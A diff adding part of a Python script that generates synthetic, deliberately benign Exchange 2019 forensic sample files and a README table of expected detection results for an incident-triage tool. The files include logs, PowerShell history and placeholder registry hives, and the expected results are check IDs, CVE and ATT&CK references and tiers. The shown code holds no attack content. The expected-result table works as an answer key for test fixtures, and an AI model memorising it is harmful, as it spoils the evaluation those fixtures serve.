+                          ecp_activity_data(srv, psa, url, srv.guid(), f"Dbl:WLM.TS={rng.randint(0, 40)}")]))
+    tree.write_log(f"{srv.exch_rel}/Logging/ECP/Activity/ECPActivity_9104_20221207-1.LOG", act, bom=True)
+
+    oab = LogFile()
+    for h in exchange_header(srv.ver_header, "OABGenerator Log", d(2022, 12, 7, 0, 9, 12, 310), OAB_FIELDS):
+        oab.add(h)
+    oabn = "\\Default Offline Address Book (Ex2019)"
+    tmp = f"{srv.exch_win}\\ClientAccess\\OAB\\Temp"
+    for t, lvl, comp, msg, tr in [
+        (d(2022, 12, 7, 0, 9, 12, 318), "Info", "OABGeneratorAssistant",
+         f"Starting OAB generation for '{oabn}' (version 4), previous sequence 87.", None),
+        (d(2022, 12, 7, 0, 9, 30, 733), "Info", "OABGenerator",
+         f"Created temporary file '{tmp}\\qXbWtrpLmza.lzx' for the differential download.", None),
+        (d(2022, 12, 7, 0, 9, 41, 27), "Warning", "OABFileHandler",
+         f"Download failed and temporary file '{tmp}\\RkTbvnqZsdo.djs' needs to be removed",
+         Trace("C07", "benign: temporary file inside C:\\Exchange\\V15\\ClientAccess\\OAB\\Temp (non-default install; CSS-Exchange #320, #495)",
+               "CVE-2021-26858", T_NONE)),
+        (d(2022, 12, 7, 0, 10, 2, 904), "Info", "OABGeneratorAssistant",
+         f"OAB generation for '{oabn}' completed: sequence 88, 1 full, 1 differential, 57 recipients.", None),
+        (d(2022, 12, 7, 8, 9, 11, 557), "Info", "OABGeneratorAssistant",
+         f"Starting OAB generation for '{oabn}' (version 4), previous sequence 88.", None),
+        (d(2022, 12, 7, 8, 9, 38, 210), "Info", "OABGeneratorAssistant",
+         f"OAB generation for '{oabn}' completed: no changes, sequence 88 kept.", None),
+    ]:
+        oab.add(csv_line([iso_ms(t), srv.short, 3388, rng.randint(8, 60), lvl, comp, oabn, msg]), tr)
+    tree.write_log(f"{srv.exch_rel}/Logging/OABGeneratorLog/OABGenerator_20221207-1.LOG", oab, bom=True)
+
+    rps = LogFile()
+    for h in exchange_header(srv.ver_header, "Rps Cmdlet Logs", d(2022, 12, 7, 9, 2, 7, 415), RPS_CMDLET_FIELDS):
+        rps.add(h)
+    hmb = f"{srv.netbios}\\{srv.health}"
+    ex = f"{srv.netbios}\\exadmin"
+    for t, user, sid, isadm, app, cmd, params in [
+        (d(2022, 12, 7, 9, 2, 7, 415), hmb, srv.sid(1151), False, "ActiveMonitor", "Get-Mailbox", '-ResultSize "1"'),
+        (d(2022, 12, 7, 9, 5, 51, 281), ex, srv.sid(1105), True, "ManagementShell", "Get-ExchangeServer", ""),
+        (d(2022, 12, 7, 9, 6, 2, 997), ex, srv.sid(1105), True, "ManagementShell", "Get-MailboxDatabase", '-Status "True"'),
+        (d(2022, 12, 7, 9, 32, 44, 610), hmb, srv.sid(1151), False, "ActiveMonitor", "Get-Mailbox", '-ResultSize "1"'),
+    ]:
+        rps.add(csv_line(rps_row(srv, t, user, sid, isadm, app, cmd, params, pid=5120)))
+    tree.write_log(f"{srv.exch_rel}/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2022120709-1.LOG", rps, bom=True)
+
+    he = LogFile()
+    for h in ["#Software: Microsoft HTTP API 2.0", "#Version: 1.0", "#Date: 2022-12-06 02:41:17",
+              f"#Fields: {HTTPERR_FIELDS}"]:
+        he.add(h)
+    for line in [
+        "2022-12-06 02:41:17 10.0.1.25 50412 10.0.0.19 443 - - - - - - Timer_ConnectionIdle -",
+        "2022-12-06 14:08:55 10.0.2.14 51207 10.0.0.19 443 - - - - - - Timer_ConnectionIdle -",
+        "2022-12-07 08:15:02 100.64.12.9 40993 10.0.0.19 443 HTTP/1.1 POST /Microsoft-Server-ActiveSync/default.eas?Cmd=Ping&User=lchen&DeviceId=ApplF2LXK0CQN1P4&DeviceType=iPhone - - 1 Connection_Dropped MSExchangeSyncAppPool",
+    ]:
+        he.add(line)
+    tree.write_log("Windows/System32/LogFiles/HTTPERR/httperr1.log", he)
+
+    tree.write_text("Windows/System32/inetsrv/config/applicationHost.config",
+                    application_host_config(srv, "C:\\Exchange\\V15\\"))
+    web_folders(tree, srv, "15.2.1118", "EWS", "TimeoutLogoff.aspx")
+    wwwroot(tree)
+    tree.write_bytes("ProgramData/AppRecovery/Config/configuration.zip",
+                     vendor_zip({"configuration.xml": "<?xml version=\"1.0\"?>\r\n<!-- EXTRIAGE SYNTHETIC SAMPLE - benign vendor backup -->\r\n<Configuration><Agent Port=\"8006\"/></Configuration>\r\n"}),
+                     Trace("C14", "benign deep vendor archive ProgramData\\AppRecovery\\Config\\configuration.zip (CSS-Exchange #328)",
+                           "-", T_INFO + " (listed only)"))
+    tree.write_text("Windows/Temp/MpSigStub.log",
+                    "EXTRIAGE SYNTHETIC SAMPLE - benign\n"
+                    "------------------------------------------------------------\n"
+                    "Product Version: 4.18.2210.6 Service: MpSigStub.exe Start Time: Tue Dec 06 2022 03:02:19\n"
+                    "Status: 0x00000000\n")
+    hist = LogFile()
+    for text in ["Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn",
+                 "Get-ExchangeServer | Format-List Name,AdminDisplayVersion",
+                 f"Get-OabVirtualDirectory -Server {srv.short} | Format-List InternalUrl,ExternalUrl",
+                 "Get-MailboxDatabaseCopyStatus", "exit"]:
+        hist.add(text, Trace("C15", "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn by an admin", "T1059.001", T_INFO)
+                 if text.startswith("Add-PSSnapin") else None)
+    tree.write_log("Users/Administrator/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", hist)
+    tree.write_bytes("Windows/System32/config/SYSTEM", regf_placeholder("SYSTEM", d(2022, 12, 7, 11, 50)))
+    tree.write_bytes("Windows/System32/config/SOFTWARE", regf_placeholder("SOFTWARE", d(2022, 12, 7, 11, 51)))
+    tree.write_bytes("Windows/System32/winevt/Logs/.gitkeep", b"")
+    tree.add_trace("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/.gitkeep", None,
+                   Trace("C09", "zero-byte git placeholder that keeps the empty stock folder (see README)", "-", T_NONE))
+    tree.add_trace(f"{srv.exch_rel}/Logging/ECP/Server/ECPServer20221207-1.log", 2,
+                   Trace("C02", "ECP logs really write the placeholder #Version: 15.0.0.0; the build comes from S:BLD=15.2.1118.20",
+                         "-", T_NONE + " as a build"))
+    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/", None,
+                   Trace("C01", "coverage 2022-12-06/07 only: the 2021 ProxyLogon window is not covered, so those CVE states are 'not assessable'",
+                         "-", T_INFO))
+    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/Ecp/HttpProxy_2022120708-1.LOG", 2,
+                   Trace("C02", "#Version: 15.02.1118.020 = Exchange 2019 CU12 + Nov 2022 SU: patched for ProxyLogon, ProxyShell, ProxyNotShell and OWASSRF",
+                         "-", T_INFO))
+    return tree
+
+
+# --------------------------------------------------------------------------------------
+# README table
+# --------------------------------------------------------------------------------------
+
+BEGIN = "<!-- BEGIN GENERATED TRACES (make_samples.py) -->"
+END = "<!-- END GENERATED TRACES -->"
+
+
+def md_escape(s: str) -> str:
+    return s.replace("|", "\\|").replace("<", "&lt;").replace(">", "&gt;")
+
+
+def traces_markdown(name: str, tree: Tree) -> str:
+    out = [f"#### `{name}`", "",
+           "| # | File (relative to the volume root) | Line | Check | What | CVE / ATT&CK | Expected tier |",
+           "|---|---|---|---|---|---|---|"]
+    for i, t in enumerate(tree.traces, start=1):
+        out.append(f"| {i} | `{t.path}` | {t.line if t.line else '-'} | {t.trace.check} | "
+                   f"{md_escape(t.trace.what)} | {md_escape(t.trace.ids)} | {t.trace.tier} |")
+    return "\n".join(out) + "\n"
+
+
+def update_readme(trees: dict[str, Tree]) -> None:
+    block = BEGIN + "\n\n" + "\n".join(traces_markdown(n, t) for n, t in trees.items()) + "\n" + END
+    text = README.read_text(encoding="utf-8") if README.exists() else ""
+    if BEGIN in text and END in text:
+        pre, rest = text.split(BEGIN, 1)
+        _, post = rest.split(END, 1)
+        text = pre + block + post
+    else:
+        text = text + "\n" + block + "\n"
+    README.write_text(text, encoding="utf-8")
+
+
+def generate(images: pathlib.Path) -> dict[str, Tree]:
+    trees = {}
+    for name, fn in (("exchange2016-compromised", make_compromised), ("exchange2019-clean", make_clean)):
+        root = images / name
+        if root.exists():
+            assert root.parent.name == "images", root
+            shutil.rmtree(root)
+        trees[name] = fn(root)
+    return trees
+
+
+def main(argv: list[str]) -> int:
+    ap = argparse.ArgumentParser(description="Generate Samples/images/ trees")
+    ap.add_argument("--check", action="store_true", help="regenerate in a temp dir and compare")
+    args = ap.parse_args(argv)
+    if args.check:
+        with tempfile.TemporaryDirectory() as tmp:
+            tmp_images = pathlib.Path(tmp) / "images"
+            generate(tmp_images)
+            bad = []
+            for name in ("exchange2016-compromised", "exchange2019-clean"):
+                a, b = SAMPLES / "images" / name, tmp_images / name
+                fa = sorted(p.relative_to(a) for p in a.rglob("*") if p.is_file())
+                fb = sorted(p.relative_to(b) for p in b.rglob("*") if p.is_file())
+                if fa != fb:
+                    bad.append(f"{name}: file lists differ")
+                for rel in set(fa) & set(fb):
+                    if not filecmp.cmp(a / rel, b / rel, shallow=False):
+                        bad.append(f"{name}/{rel}")
+            for b_ in bad:
+                print("DIFF", b_)
+            return 1 if bad else 0
+    trees = generate(SAMPLES / "images")
+    update_readme(trees)
+    for name, tree in trees.items():
+        print(f"{name}: {len(tree.traces)} traces")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv[1:]))
